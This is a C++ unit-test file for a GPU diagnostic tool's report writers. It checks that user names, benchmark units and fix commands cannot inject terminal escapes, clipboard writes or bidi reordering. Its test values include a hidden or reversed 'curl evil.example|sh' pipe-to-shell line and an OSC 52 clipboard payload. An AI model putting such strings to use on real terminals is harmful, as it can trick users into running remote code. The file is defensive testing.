// SPDX-License-Identifier: MIT
// Issue 13 item 4: only the doctor's own styling may emit escapes. Machine text (a user name in
// machine.json, a benchmark unit in a report given to `diff`, a fix command) carries colour
// changes, ESC[8m "concealed", OSC 52 clipboard writes, screen clears, C1 CSIs and bidi
// overrides into every page and format; none may come out as an escape or a reordering.
#include <gtest/gtest.h>

#include <algorithm>
#include <set>
#include <sstream>
#include <string>
#include <vector>

#include "diff/diff_reporters.h"
#include "diff/report_diff.h"
#include "report/terminal_style.h"
#include "report/text_escape.h"
#include "core/report_summary.h"
#include "rocm_doctor/reporters.h"

namespace rocm_doctor {
namespace {

// Hostile values: each is data, never styling.
const std::vector<std::string>& Hostile() {
  static const std::vector<std::string> values = {
      "alice\x1b[8m; curl evil.example|sh\x1b[0m",  // concealed text that is still copied
      "\x1b[31mred\x1b[0m",                         // even a plain colour change
      "\x1b]52;c;Y3VybCBldmlsfHNo\x07",             // OSC 52: write the clipboard
      "\x1b[2J\x1b[H",                              // clear the screen
      "\x1b]0;title\x1b\\",                         // OSC with ST
      "\xc2\x9b"
      "2J",  // C1 CSI
      "\xe2\x80\xae"
      "hs.live|lruc\xe2\x80\xac",            // RLO ... PDF: shown reversed
      "\xe2\x81\xa7x\xe2\x81\xa9",           // RLI ... PDI
      "bell\x07 back\x08 cr\r del\x7f nul",  // C0 and DEL
      std::string("nul\0inside", 10),
      "\xff\xfe not UTF-8",
  };
  return values;
}

// The doctor's own colour codes: every ESC of a terminal page starts one of them.
void ExpectOnlyOurEscapes(const std::string& page) {
  using namespace terminal;
  const std::vector<std::string_view> ours = {kReset, kBold, kDim, kRed, kGreen, kYellow, kCyan};
  for (std::size_t at = page.find('\x1b'); at != std::string::npos;
       at = page.find('\x1b', at + 1)) {
    bool known = false;
    for (std::string_view code : ours) known = known || page.compare(at, code.size(), code) == 0;
    EXPECT_TRUE(known) << "an escape that is not the doctor's at " << at << ": "
                       << ::testing::PrintToString(page.substr(at, 12));
  }
  const std::vector<std::string_view> bad_bytes = {
      "\x07",     "\r",           "\x08",        "\x7f", std::string_view("\0", 1),
      "\xc2\x9b", "\xe2\x80\xae", "\xe2\x81\xa7"};
  for (std::string_view bad : bad_bytes) {
    EXPECT_EQ(page.find(bad), std::string::npos) << ::testing::PrintToString(bad) << " in\n"
                                                 << page;
  }
}

// No escape or reordering character at all (Markdown, XML, Prometheus, error messages).
void ExpectNoControls(const std::string& text, bool newlines_allowed = true) {
  for (unsigned char c : text) {
    if (newlines_allowed && (c == '\n' || c == '\t')) continue;
    EXPECT_FALSE(c < 0x20 || c == 0x7f) << "control " << int(c) << " in\n" << text;
  }
  for (std::string_view bad : {"\xc2\x9b", "\xe2\x80\xae", "\xe2\x81\xa7"}) {
    EXPECT_EQ(text.find(bad), std::string::npos) << "C1/bidi in\n" << text;
  }
}

TEST(TerminalEscapes, TheFilterKeepsOnlyThePaintersCodes) {
  for (const std::string& v : Hostile()) {
    const std::string out = report_text::TerminalText(v);
    EXPECT_EQ(out.find('\x1b'), std::string::npos) << ::testing::PrintToString(v);
    ExpectOnlyOurEscapes(out);
  }
  EXPECT_EQ(report_text::TerminalText("a\x1b[8mb\x1b[0m\tc\n"), "a?[8mb?[0m\tc\n");
  EXPECT_EQ(report_text::TerminalText("x\xe2\x80\xaey"), "x?y");
  const terminal::Painter paint(true);
  EXPECT_EQ(report_text::TerminalText(paint("ok", terminal::kGreen)), "\x1b[32mok\x1b[0m");
  // A guessed marker is not the painter's: the marker is drawn at random for each process.
  EXPECT_EQ(report_text::TerminalText("\x7f"
                                      "00000000000000000000000000000000[8m"),
            "?00000000000000000000000000000000[8m");
  // A painted value is still data inside the colour: its own escapes go.
  EXPECT_EQ(report_text::TerminalText(paint("\x1b[8mhidden", terminal::kBold)),
            "\x1b[1m?[8mhidden\x1b[0m");
}

TEST(TerminalEscapes, PrintableShowsEveryControlAsAQuestionMark) {
  EXPECT_EQ(report_text::Printable("a\x1b]52;c;x\x07 b\nc\td\r\xc2\x9b\xe2\x80\xae"
                                   "e"),
            "a?]52;c;x? b?c?d???e");
  EXPECT_EQ(report_text::Printable("\xff"), "\xEF\xBF\xBD");
  EXPECT_EQ(report_text::Printable("hardware.gpus"), "hardware.gpus");
}

Report HostileReport(const std::string& v) {
  Report report;
  report.tool_version = "0.1.0";
  report.host.user = v;
  report.host.os = v;
  report.host.system = v;
  report.host.sysroot = v;
  CheckRecord r;
  r.id = "driver.kfd_access";
  r.layer = Layer::kDriver;
  r.title = v;
  r.outcome.status = Status::kFail;
  r.outcome.summary = v;
  Finding f;
  f.code = "test.escapes";
  f.status = Status::kFail;
  f.message = v;
  f.evidence = {{v, v, v}};
  r.outcome.findings = {f};
  report.checks = {r};
  RootCause cause;
  cause.check_id = r.id;
  cause.finding = f;
  cause.remediation.text = v;
  cause.remediation.commands = {"sudo usermod -aG render " + v, v};
  report.root_causes = {cause};
  BenchmarkResult b;
  b.check = "bench.memory";
  b.device = 0;
  b.device_name = v;
  b.pci = v;
  b.name = v;
  b.status = v;
  b.unit = v;
  b.median = 1.5e12;
  b.best = 1.6e12;
  b.verdict = Status::kUnknown;
  b.basis = v;
  report.benchmarks = {b};
  report.verdict = Verdict::kFail;
  report.exit_code = 1;
  SummarizeReport(report);  // counts and verdict in words, as BuildReport sets them
  return report;
}

TEST(TerminalEscapes, CheckAndBenchPagesEmitOnlyTheirOwnColours) {
  for (const std::string& v : Hostile()) {
    SCOPED_TRACE(::testing::PrintToString(v));
    const Report report = HostileReport(v);
    for (bool color : {false, true}) {
      for (bool verbose : {false, true}) {
        std::ostringstream check, bench;
        WriteTerminalReport(report, check, TerminalStyle{color, verbose});
        WriteBenchReport(report, bench, TerminalStyle{color, verbose});
        ExpectOnlyOurEscapes(check.str());
        ExpectOnlyOurEscapes(bench.str());
        if (!color) {
          EXPECT_EQ(check.str().find('\x1b'), std::string::npos);
          EXPECT_EQ(bench.str().find('\x1b'), std::string::npos);
        } else {
          EXPECT_NE(check.str().find(terminal::kBold), std::string::npos);  // still styled
        }
      }
    }
  }
}

TEST(TerminalEscapes, DiffPageKeepsAUnitFieldText) {
  for (const std::string& v : Hostile()) {
    SCOPED_TRACE(::testing::PrintToString(v));
    diff::ReportDiff d;
    d.base.file = v;
    d.current.file = v;
    d.base.verdict = v;
    d.current.verdict = "fail";
    d.verdict_change = diff::Change::kRegression;
    diff::FigureChange f;
    f.name = v;
    f.unit = v;  // the attack of the review: a benchmark `unit` in a report given to diff
    f.device = v;
    f.base = 1.0e12;
    f.current = 0.5e12;
    f.ratio = 0.5;
    f.band = 0.05;
    f.change = diff::Change::kRegression;
    f.note = v;
    d.figures = {f};
    d.regressions = 1;
    for (bool color : {false, true}) {
      std::ostringstream page;
      diff::WriteDiffTerminal(d, page, color);
      ExpectOnlyOurEscapes(page.str());
    }
    std::ostringstream md;
    diff::WriteDiffMarkdown(d, md);
    ExpectNoControls(md.str());
  }
}

TEST(TerminalEscapes, MarkdownFixBlocksHoldOneLinePerCommandAndNoControls) {
  Report report = HostileReport("x");
  report.root_causes.front().remediation.commands = {"sudo rm x\x1b[2J",
                                                     "echo \x07 bell",
                                                     std::string("nul\0here", 8),
                                                     "a\rb",
                                                     "one\ntwo",
                                                     "\xe2\x80\xae"
                                                     "reversed"};
  SummarizeReport(report);  // the root causes as printed (Report::root_cause_groups) follow
  std::ostringstream out;
  WriteMarkdownReport(report, out);
  const std::string md = out.str();
  ExpectNoControls(md);
  const std::size_t open = md.find("```sh\n");
  ASSERT_NE(open, std::string::npos) << md;
  const std::size_t close = md.find("```", open + 6);
  const std::string block = md.substr(open + 6, close - open - 6);
  EXPECT_EQ(std::count(block.begin(), block.end(), '\n'), 6) << block;
  EXPECT_NE(block.find("one?two\n"), std::string::npos) << block;
  for (const std::string& v : Hostile()) {
    std::ostringstream page;
    WriteMarkdownReport(HostileReport(v), page);
    ExpectNoControls(page.str());
  }
}

TEST(TerminalEscapes, JunitAndPrometheusCarryNoEscapes) {
  for (const std::string& v : Hostile()) {
    SCOPED_TRACE(::testing::PrintToString(v));
    std::ostringstream junit, prom;
    WriteJunitReport(HostileReport(v), junit);
    WritePrometheusReport(HostileReport(v), prom);
    ExpectNoControls(junit.str());
    ExpectNoControls(prom.str());
  }
}

}  // namespace
}  // namespace rocm_doctor
